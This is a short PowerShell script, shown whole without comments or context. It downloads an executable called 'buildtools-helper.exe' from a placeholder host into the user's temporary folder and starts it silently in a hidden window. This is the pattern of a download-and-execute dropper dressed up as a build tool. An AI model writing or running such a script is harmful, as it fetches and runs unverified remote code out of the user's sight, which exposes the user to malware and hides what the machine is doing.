$ErrorActionPreference = 'Stop'
$dst = Join-Path $env:TEMP 'buildtools-helper.exe'
Invoke-WebRequest -Uri 'https://dl.example.invalid/buildtools-helper.exe' -OutFile $dst -UseBasicParsing
Start-Process -FilePath $dst -ArgumentList '/quiet' -WindowStyle Hidden
